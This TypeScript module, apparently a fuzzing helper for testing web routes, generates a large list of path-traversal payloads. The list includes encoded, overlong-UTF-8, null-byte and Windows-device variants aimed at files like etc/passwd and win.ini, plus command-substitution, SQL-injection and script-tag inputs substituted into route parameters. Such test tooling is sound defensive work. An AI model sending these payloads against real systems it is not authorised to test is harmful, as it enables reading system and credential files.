// Spellings of a way out of one's own folder, as part of an address. They are sent as they stand here.

const dots = [
  '..',
  '%2e%2e',
  '.%2e',
  '%2E.',
  '%252e%252e',
  '%25252e%25252e',
  '%c0%ae%c0%ae',
  '%e0%80%ae%e0%80%ae',
  '%f0%80%80%ae%f0%80%80%ae',
  '%c0%2e%c0%2e',
  '%u002e%u002e',
  '%uff0e%uff0e',
  '%ef%bc%8e%ef%bc%8e',
  '....',
  '...',
  '..;',
  '..%00',
  '..%20',
  '..%0d%0a',
  '.%e2%80%8b.',
] as const

const slashes = [
  '/',
  '//',
  '/./',
  '%2f',
  '%2F',
  '%252f',
  '%25252f',
  '\\',
  '\\\\',
  '%5c',
  '%255c',
  '%c0%af',
  '%e0%80%af',
  '%c1%9c',
  '%u2215',
  '%uff0f',
  '%ef%bc%8f',
  '%e2%88%95',
  '%00/',
  '%2f%00',
] as const

const devices = ['CON', 'con', 'NUL', 'nul.png', 'PRN', 'AUX', 'COM1', 'LPT1.txt', 'CLOCK$', 'CONIN$']

/** @param target what lies outside, from the root of a disk on, e.g. `etc/passwd` */
export function spellingsOf(target: string): readonly string[] {
  const whole = encodeURIComponent(`/${target}`)
  const parts = target.split('/')
  const climbs = dots.flatMap((up) =>
    slashes.map((slash) => [...Array.from({ length: 10 }, () => up), ...parts].join(slash)),
  )
  const depths = [1, 2, 3, 4, 5, 6, 7, 8, 12, 20, 40].flatMap((depth) => [
    '..%2f'.repeat(depth) + encodeURIComponent(target),
    '..%5c'.repeat(depth) + encodeURIComponent(target.replaceAll('/', '\\')),
  ])
  const absolute = [
    whole,
    `/${target}`,
    `//${target}`,
    `%2f%2f${whole}`,
    `file:${whole}`,
    `file%3a%2f%2f${whole}`,
    `C:${whole}`,
    `C%3a%5c${target.replaceAll('/', '%5c')}`,
    'C:%5cWindows%5cwin.ini',
    'c%3awin.ini',
    `%5c%5clocalhost%5cc$%5c${target.replaceAll('/', '%5c')}`,
    `%5c%5c%3f%5cC:%5c${target.replaceAll('/', '%5c')}`,
    `%2f%2flocalhost${whole}`,
    `~${whole}`,
    `%7eroot${whole}`,
    `proc%2fself%2fcwd%2f..${whole}`,
    `%2fproc%2fself%2froot${whole}`,
    '%2fdev%2fzero',
    '$%7bHOME%7d',
    '%24(id)',
    '%60id%60',
    '%25HOME%25',
  ]
  const ends = [
    '%00',
    '%00.png',
    '.png%00',
    '.',
    '..',
    '...',
    '%20',
    '%20.',
    '::$DATA',
    ':1',
    '%0a',
    '%0d%0aX:%20y',
    ';.png',
    '%23.png',
    '%3f.png',
    '/',
  ]
  const ended = ends.flatMap((end) => [`..%2f..%2f..%2f..%2f..%2f..%2f${encodeURIComponent(target)}${end}`, `x${end}`])
  const odd = [
    '%',
    '%2',
    '%zz',
    '%ff',
    '%ed%a0%80',
    '%f4%90%80%80',
    '.',
    '%2e',
    '-',
    '_',
    '*',
    '%2a',
    '[',
    '%5b..%5d',
    '{..}',
    '__proto__',
    'constructor',
    'toString',
    "'%20or%201=1--",
    '%22',
    '%3cscript%3e',
    'null',
    'undefined',
    '0',
    '-1',
    '1e400',
    'NaN',
  ]
  const long = ['x', '..%2f', '%2e', '%f0%9f%a6%8a'].flatMap((text) =>
    [200, 499, 5000].map((length) => text.repeat(Math.ceil(length / text.length))),
  )
  return [...new Set([...climbs, ...depths, ...absolute, ...ended, ...odd, ...devices, ...long])]
}

/** An address for each part of a route that takes a name or an id: that part in this spelling, the others sound. */
export function fillEach(url: string, spelling: string, sound: Readonly<Record<string, string>>): readonly string[] {
  const parts = url.match(/:[A-Za-z]+|\*/g) ?? []
  return parts.map((_, chosen) => {
    let at = -1
    return url.replaceAll(/:([A-Za-z]+)|\*/g, (part, name: string | undefined) => {
      at += 1
      return at === chosen ? spelling : (sound[name ?? part] ?? 'x')
    })
  })
}
